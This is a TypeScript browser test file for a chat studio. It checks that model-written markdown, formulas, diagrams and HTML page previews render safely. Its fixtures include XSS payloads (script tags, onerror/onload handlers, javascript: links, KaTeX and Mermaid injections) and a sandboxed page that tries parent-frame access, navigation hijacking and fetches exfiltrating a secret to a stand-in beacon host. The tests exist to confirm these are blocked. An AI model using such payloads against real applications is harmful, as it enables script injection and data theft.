// What a model writes, however it is meant: drawn as text, tables, formulas, code, diagrams and pages, and nothing of it
// reaches the studio, its storage or the network.

import { Chat, expect, test } from "./studio.ts";

const RICH = `# Heading

Some **bold**, \`code\`, **“重点”**后面 and $x^2$.

| left | right |
|:--|--:|
| a | 1 |

$$\\sum_{i=1}^n i = \\frac{n(n+1)}{2}$$

\`\`\`ts
const answer: number = 42;
\`\`\`

\`\`\`mermaid
graph LR
  A[Prompt] --> B[Answer]
\`\`\`
`;

test("Markdown, tables, formulas, coloured code, and a diagram when it is asked for", async ({ chat, page }) => {
  await chat.importChat("Rich", [
    { role: "user", content: "Show me." },
    { role: "assistant", content: RICH },
  ]);
  const answer = chat.answers.last();
  await expect(answer.getByRole("heading", { name: "Heading" })).toBeVisible();
  await expect(answer.locator("strong")).toHaveText(["bold", "“重点”"]);
  await expect(answer.getByRole("cell", { name: "1" })).toHaveCSS("text-align", "right");
  await expect(answer.locator(".katex")).toHaveCount(2);
  await expect(answer.locator(".hljs-keyword")).toHaveText("const");
  await expect(page.getByRole("img", { name: "Diagram" })).toHaveCount(0);
  await chat.button("Draw").click();
  await expect(page.getByRole("img", { name: "Diagram" })).toBeVisible();
  expect(
    await page.getByRole("img", { name: "Diagram" }).evaluate((image: HTMLImageElement) => image.naturalWidth > 50),
  ).toBe(true);
});

const HOSTILE = `<script>window.isCaught = true</script>

<img src=x onerror="window.isCaught = true">

<svg onload="window.isCaught = true"></svg>

[click me](javascript:window.isCaught=true) [data](data:text/html,<script>alert(1)</script>)

![beacon](https://beacon.invalid/pixel.png?said=secret)

<iframe src="https://beacon.invalid/"></iframe>

$\\href{javascript:window.isCaught=true}{x}$ $\\includegraphics{https://beacon.invalid/a.png}$ $\\htmlData{a=b}{x}$

$\\def\\a{\\a\\a}\\a$

\`\`\`mermaid
graph LR
  A["<img src=x onerror='window.isCaught=true'>"] --> B
  click A "javascript:window.isCaught=true"
  click B call alert()
\`\`\`
`;

test("hostile Markdown stays text, and asks nobody", async ({ page, studioUrl }) => {
  // Not the fixture: what Mermaid's sanitiser takes apart, in a document that is never shown, the browser reports.
  await page.goto("/");
  const chat = new Chat(page);
  const strangers: string[] = [];
  page.on("request", (request) => {
    const { origin, protocol } = new URL(request.url());
    if (origin !== studioUrl && protocol !== "blob:" && protocol !== "data:") strangers.push(request.url());
  });
  await chat.importChat("Hostile", [
    { role: "user", content: "<script>window.isCaught = true</script>" },
    { role: "assistant", content: HOSTILE, reasoning: HOSTILE, thinkingFrom: 1, thinkingTo: 2 },
  ]);
  const answer = chat.answers.last();
  await expect(answer).toContainText("<script>window.isCaught = true</script>");
  await page.getByRole("button", { name: /^Thought for/ }).click();
  await chat.button("Draw").last().click();
  await expect(page.getByRole("img", { name: "Diagram" })).toBeVisible();
  await answer.getByText("click me").last().click();
  expect(await answer.locator("a").evaluateAll((links) => links.map((link) => link.getAttribute("href")))).toEqual(
    Array(2).fill("https://beacon.invalid/pixel.png?said=secret"),
  );
  expect(await answer.locator("script, iframe, svg[onload], [onerror]").count()).toBe(0);
  expect(await page.evaluate(() => "isCaught" in window)).toBe(false);
  expect(strangers).toEqual([]);
});

const PAGE_1 = "```html\n<!doctype html><h1>First</h1>\n```";
const PAGE_2 = `\`\`\`html
<!doctype html><h1>Second</h1><p id=log></p><script>
const say = (word) => document.getElementById("log").textContent += word + " ";
try { parent.document.title = "caught"; say("PARENT") } catch { say("parent-denied") }
try { localStorage.x = 1; say("STORAGE") } catch { say("storage-denied") }
try { top.location = "https://beacon.invalid/"; say("top-tried") } catch { say("top-denied") }
fetch("https://beacon.invalid/?said=secret").then(() => say("FETCHED"), () => say("fetch-denied"));
fetch("/v1/models").then(() => say("FETCHED"), () => say("api-denied"));
new Image().src = "https://beacon.invalid/pixel.png";
for (let i = 0; i < 20; i++) alert("storm");
say("ran");
</script>
\`\`\``;

test("pages run apart: versions, no studio, no network, and stop", async ({ page, studioUrl }) => {
  // Not the fixture, which takes refusals that the browser reports for mistakes.
  await page.goto("/");
  const chat = new Chat(page);
  const reached: string[] = [];
  page.on("requestfinished", (request) => {
    if (!request.url().startsWith(studioUrl)) reached.push(request.url());
  });
  await chat.importChat("Pages", [
    { role: "user", content: "A page." },
    { role: "assistant", content: PAGE_1 },
    { role: "user", content: "Another." },
    { role: "assistant", content: PAGE_2 },
  ]);
  await chat.button("Show page").last().click();
  const panel = page.getByRole("complementary", { name: "Page" });
  const frame = panel.frameLocator("iframe");
  await expect(frame.getByRole("heading", { name: "Second" })).toBeVisible();
  for (const word of ["parent-denied", "storage-denied", "fetch-denied", "api-denied", "ran"])
    await expect(frame.locator("#log")).toContainText(word);
  await expect(frame.locator("#log")).not.toContainText(/[A-Z]{3}/);
  expect(await page.title()).not.toBe("caught");
  expect(page.url()).toContain(studioUrl);
  expect(reached).toEqual([]);

  await panel.getByRole("button", { name: "Previous version" }).click();
  await expect(frame.getByRole("heading", { name: "First" })).toBeVisible();
  await panel.getByRole("tab", { name: "Code" }).click();
  await expect(panel.getByRole("tabpanel")).toContainText("<h1>First</h1>");
  await panel.getByRole("tab", { name: "Preview" }).click();
  await panel.getByRole("button", { name: "Stop the page" }).click();
  await expect(panel.locator("iframe")).toHaveCount(0);
});

test("a page in an endless loop does not stop the studio", async ({ chat, page }) => {
  await chat.importChat("Loop", [
    { role: "user", content: "A page." },
    { role: "assistant", content: "```html\n<h1>Loop</h1><script>for (;;) {}</script>\n```" },
  ]);
  await chat.button("Show page").click();
  await chat.composer.fill("still here");
  await expect(chat.composer).toHaveValue("still here");
  await chat.button("Stop the page").click();
  await expect(page.locator("iframe")).toHaveCount(0);
});
